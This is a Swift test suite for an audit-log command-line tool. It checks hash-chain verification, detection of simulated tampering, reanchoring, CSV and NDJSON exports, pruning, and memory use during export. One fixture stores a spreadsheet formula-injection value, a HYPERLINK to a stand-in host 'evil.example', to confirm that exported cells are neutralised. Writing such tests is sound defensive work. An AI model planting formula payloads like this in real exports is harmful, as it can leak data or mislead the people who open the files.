import Foundation
import GRDB
import ModerationStore
import TestSupport
import Testing

/// The real `console audit …` commands, run as a person would run them.
@Suite("console audit: verify, export, summary, prune", .timeLimit(.minutes(3)))
struct AuditCommandTests {
    private static var binary: String { RepositoryPaths.root.appendingPathComponent(".build/debug/console").path }

    private func console(_ arguments: String...) throws -> ChildProcess {
        try ChildProcess.run(Self.binary, arguments)
    }

    private func decisions(_ count: Int, in directory: TemporaryDirectory, start: Date = Date(timeIntervalSince1970: 1_790_000_000)) async throws -> String {
        let path = directory.path("console.sqlite")
        let store = try ModerationStore(path: path)
        for index in 1...count {
            try await store.appendAudit(
                AuditEntry(
                    recordedAt: start.addingTimeInterval(Double(index) * 86_400), actorId: 3, actorUsername: "staff", action: "library.approve",
                    targetKind: "library", targetId: "\(index)", targetSlug: "slug-\(index)", targetName: "Café, \"Nº \(index)\"",
                    statusBefore: "pending", statusAfter: "approved", reason: "", outcome: .applied, backendStatus: 200,
                    requestId: "r\(index)", clientAddress: "127.0.0.1", userAgent: "test", itemCreatedAt: start, actionId: nil))
        }
        return path
    }

    @Test("verify prints OK with the head, and names the row someone edited with sqlite3")
    func verify() async throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let path = try await decisions(6, in: directory)
        let ok = try console("audit", "verify", "--database", path)
        #expect(ok.status == 0)
        #expect(ok.output.hasPrefix("OK, 6 entries, head "))
        let tamperer = try DatabaseQueue.waiting(path: path)
        try await tamperer.write { db in
            try db.execute(sql: "DROP TRIGGER auditEntry_noUpdate")
            try db.execute(sql: "UPDATE auditEntry SET targetName = 'Someone else' WHERE id = 4")
        }
        let broken = try console("audit", "verify", "--database", path)
        #expect(broken.status == 1)
        #expect(broken.output.hasPrefix("BROKEN at entry 4: its contents do not match its hash (the entry was changed)\n"))
        #expect(broken.output.contains("console audit reanchor --entry 4"), "the one way out an operator may take, named")
        let missing = try console("audit", "verify", "--database", directory.path("nope.sqlite"))
        #expect(missing.status != 0)
        #expect(missing.errorOutput.contains("No database at"))
    }

    @Test("reanchor acknowledges an entry stored cut at a NUL, audited with who and why; verify, backup and anchor work again")
    func reanchor() async throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        // setup: entry 3 as an older console left a sign-in typed with a NUL: hashed whole, stored cut
        let path = try await decisions(5, in: directory)
        let tamperer = try DatabaseQueue.waiting(path: path)
        try await tamperer.write { db in
            try db.execute(sql: "DROP TRIGGER auditEntry_noUpdate")
            try db.execute(sql: "UPDATE auditEntry SET targetName = 'Caf' WHERE id = 3")
        }
        try tamperer.close()
        #expect(try console("audit", "verify", "--database", path).status == 1)
        // act
        let refused = try console("audit", "reanchor", "--database", path, "--entry", "4", "--reason", "cut at a NUL")
        let done = try console("audit", "reanchor", "--database", path, "--entry", "3", "--reason", "sign-in typed with a NUL, stored cut")
        // check
        #expect(refused.status == 1 && refused.errorOutput.contains("first breaks at entry 3"), "\(refused.errorOutput)")
        #expect(done.status == 0, "\(done.errorOutput)")
        #expect(done.output.hasPrefix("Entry 3 acknowledged as damaged by re-anchor entry 6"))
        let verified = try console("audit", "verify", "--database", path)
        #expect(verified.status == 0 && verified.output.hasPrefix("OK, 6 entries, head "), "\(verified.output)")
        #expect(try console("audit", "anchor", "--database", path).status == 0)
        let entry = try #require(try await ModerationStore(path: path).auditEntry(id: 6))
        #expect(entry.action == "audit.reanchor" && entry.targetId == "3" && entry.reason == "sign-in typed with a NUL, stored cut")
        #expect(entry.actorUsername.hasPrefix("cli:"))
    }

    @Test("export writes a range to a file, says how many, and records who exported what")
    func export() async throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let path = try await decisions(10, in: directory)
        let output = directory.path("march.csv")
        // Entries are one a day from 2026-09-22; the 3rd to the 5th inclusive.
        let run = try console("audit", "export", "--database", path, "--from", "2026-09-24", "--to", "2026-09-26", "--format", "csv", "--output", output)
        #expect(run.status == 0, "\(run.errorOutput)")
        #expect(run.errorOutput.hasPrefix("Exported 3 entries to \(output) in "))
        let entries = try AuditCSV.entries(in: try String(contentsOfFile: output, encoding: .utf8))
        #expect(entries.compactMap(\.id) == [3, 4, 5])
        #expect(entries.allSatisfy { $0.computedHash() == $0.hash })
        let store = try ModerationStore(path: path)
        let recorded = try #require(try await store.auditEntries(limit: 1).first)
        #expect(recorded.action == AuditEntry.exportAction)
        #expect(recorded.actorUsername.hasPrefix("cli:"))
        #expect(recorded.targetName == "csv export: 2026-09-24 – 2026-09-26")
        let bad = try console("audit", "export", "--database", path, "--from", "last tuesday")
        #expect(bad.status != 0)
        #expect(bad.errorOutput.contains("--from must be a day like 2026-11-01"))
        let ndjson = try console("audit", "export", "--database", path, "--format", "ndjson", "--staff", "nobody")
        #expect(ndjson.status == 0 && ndjson.output.isEmpty)
    }

    @Test("verify --export recomputes the chain from a CSV or NDJSON file, formula-like cells included, and names an edited row")
    func verifyExport() async throws {
        // setup: six decisions, one entry whose name a spreadsheet would run, and full exports in both formats
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let path = try await decisions(6, in: directory)
        try await ModerationStore(path: path).appendAudit(
            AuditEntry(
                recordedAt: Date(timeIntervalSince1970: 1_790_900_000), actorId: nil, actorUsername: "=HYPERLINK(\"http://evil.example/?x\",\"Click\")",
                action: "session.signIn", targetKind: "session", targetId: "", targetSlug: "", targetName: "", statusBefore: "", statusAfter: "",
                reason: "", outcome: .failed, outcomeDetail: "wrong credentials", backendStatus: nil, requestId: "r7", clientAddress: "192.0.2.7",
                userAgent: "'=already quoted", itemCreatedAt: nil, actionId: nil))
        let csv = directory.path("all.csv")
        let ndjson = directory.path("all.ndjson")
        #expect(try console("audit", "export", "--database", path, "--format", "csv", "--output", csv).status == 0)
        #expect(try console("audit", "export", "--database", path, "--format", "ndjson", "--output", ndjson).status == 0)
        let head = try console("audit", "verify", "--database", path).output
        let csvText = try String(contentsOfFile: csv, encoding: .utf8)
        #expect(csvText.contains(",\"'=HYPERLINK(\"\"http"), "the CSV cell is neutralised")

        // act
        let fromCSV = try console("audit", "verify", "--export", csv)
        let fromNDJSON = try console("audit", "verify", "--export", ndjson)
        try csvText.replacingOccurrences(of: "Nº 3", with: "Nº 9").write(toFile: csv, atomically: true, encoding: .utf8)
        let edited = try console("audit", "verify", "--export", csv)

        // check: the head is the database's own, from the first export's 8 entries (the second was recorded after it)
        #expect(fromCSV.status == 0, "\(fromCSV.output)\(fromCSV.errorOutput)")
        #expect(fromCSV.output.hasPrefix("OK, 8 entries, head "))
        #expect(fromNDJSON.status == 0, "\(fromNDJSON.output)\(fromNDJSON.errorOutput)")
        #expect(fromNDJSON.output.hasPrefix("OK, 9 entries, head "))
        #expect(head.hasSuffix(String(fromNDJSON.output.suffix(65))), "the same head as the database's")
        #expect(edited.status == 1)
        #expect(edited.output == "BROKEN at entry 3: its contents do not match its hash (the entry was changed)\n")
    }

    @Test(
        "the spreadsheet CSV from the command line has the columns a person reads, with times on the team's clock; verify --export refuses it in words, naming the files that verify"
    )
    func spreadsheetExportIsNotVerified() async throws {
        // setup
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let path = try await decisions(2, in: directory)
        let file = directory.path("sheet.csv")
        #expect(try console("audit", "export", "--database", path, "--format", "spreadsheet-csv", "--output", file).status == 0)

        // act
        let verify = try console("audit", "verify", "--export", file)

        // check
        let bytes = try #require(FileManager.default.contents(atPath: file))
        let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
        #expect(Array(bytes.prefix(3)) == [0xEF, 0xBB, 0xBF])
        #expect(text.hasPrefix("When ("), "\(text.prefix(80))")
        #expect(text.contains(",staff,Library approved,\"Café, \"\"Nº 1\"\"\",,Done\r\n"), "\(text)")
        #expect(!text.contains("library.approve") && !text.contains("127.0.0.1"), "\(text)")
        #expect(verify.status != 0)
        #expect(verify.errorOutput.contains("cannot be checked") && verify.errorOutput.contains("Check the plain CSV or the NDJSON"), "\(verify.errorOutput)")
        #expect(!verify.errorOutput.contains("is not an audit export"))
    }

    @Test("summary prints the decisions of a range as CSV")
    func summary() async throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let path = try await decisions(4, in: directory)
        let run = try console("audit", "summary", "--database", path)
        #expect(run.status == 0)
        #expect(run.output.contains("staff,staff,4,,\r\n"))
        #expect(run.output.contains("queue,library,4,48.0,96.0\r\n"))
    }

    @Test("prune removes old entries behind a checkpoint; verify still passes and still catches tampering")
    func prune() async throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        let path = try await decisions(10, in: directory)
        let run = try console("audit", "prune", "--database", path, "--before", "2026-09-27")
        #expect(run.status == 0, "\(run.errorOutput)")
        #expect(run.output == "Removed 5 entries recorded before 2026-09-27T00:00:00.000Z; checkpoint entry 11 keeps the last removed hash.\n")
        let verify = try console("audit", "verify", "--database", path)
        #expect(verify.output.hasPrefix("OK, 6 entries, head "))
        let tamperer = try DatabaseQueue.waiting(path: path)
        try await tamperer.write { try $0.execute(sql: "DELETE FROM auditEntry WHERE id = 6") }
        let broken = try console("audit", "verify", "--database", path)
        #expect(broken.status == 1)
        #expect(broken.output.hasPrefix("BROKEN at entry 7:"))
        let refused = try console("audit", "prune", "--database", path, "--before", "2026-09-30")
        #expect(refused.status != 0, "no pruning on top of a broken chain")
        let future = try console("audit", "prune", "--database", path, "--before", "2999-01-01")
        #expect(future.errorOutput.contains("must not be in the future"))
    }

    /// Fills the log with `count` rows straight in SQL (valid hashes are not needed to export).
    private func bulkFill(_ count: Int, path: String) throws {
        _ = try ModerationStore(path: path)
        let queue = try DatabaseQueue.waiting(path: path)
        try queue.write { db in
            try db.execute(
                sql: """
                    WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?)
                    INSERT INTO auditEntry (id, recordedAt, actorId, actorUsername, action, targetKind, targetId, targetSlug, targetName,
                        statusBefore, statusAfter, reason, outcome, backendStatus, requestId, clientAddress, userAgent, itemCreatedAt,
                        actionId, previousHash, hash)
                    SELECT i, strftime('%Y-%m-%d %H:%M:%f', 1700000000 + i, 'unixepoch'), 2, 'staff', 'library.approve', 'library',
                        i, 'some-library-slug-' || i, 'A library, "quoted", with a long enough name ' || i, 'pending', 'approved',
                        'A reason that is a sentence or two long, as staff write them, with, commas.', 'applied', 200,
                        lower(hex(randomblob(16))), '203.0.113.7', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/126 Safari/537.36',
                        strftime('%Y-%m-%d %H:%M:%f', 1690000000 + i, 'unixepoch'), NULL, lower(hex(randomblob(32))), lower(hex(randomblob(32)))
                    FROM n
                    """, arguments: [count])
        }
    }

    @Test("exporting 200 000 entries takes no more memory than exporting 20 000")
    func exportMemoryIsConstant() throws {
        let directory = try TemporaryDirectory()
        defer { directory.remove() }
        var peaks: [Int: Int] = [:]
        for count in [20_000, 200_000] {
            let path = directory.path("log-\(count).sqlite")
            try bulkFill(count, path: path)
            let output = directory.path("export-\(count).csv")
            let run = try console("audit", "export", "--database", path, "--output", output)
            #expect(run.status == 0, "\(run.errorOutput)")
            #expect(run.errorOutput.hasPrefix("Exported \(count + 1) entries"), "the export's own entry is included")
            peaks[count] = run.maxResidentKilobytes
            if count == 200_000 {
                let bytes = try #require(try FileManager.default.attributesOfItem(atPath: output)[.size] as? Int)
                #expect(bytes > 80_000_000, "the file is far larger than the growth allowed below")
            }
        }
        let small = try #require(peaks[20_000])
        let large = try #require(peaks[200_000])
        // An export that held its rows would grow by the file's size (over 80 MB). What may
        // grow is bounded: SQLite's page caches (2 MB per connection) fill with a larger file.
        #expect(large - small < 16_000, "peak memory grew by \(large - small) kB for 10 times the rows")
        #expect(large < 64_000, "peak memory \(large) kB")
    }
}
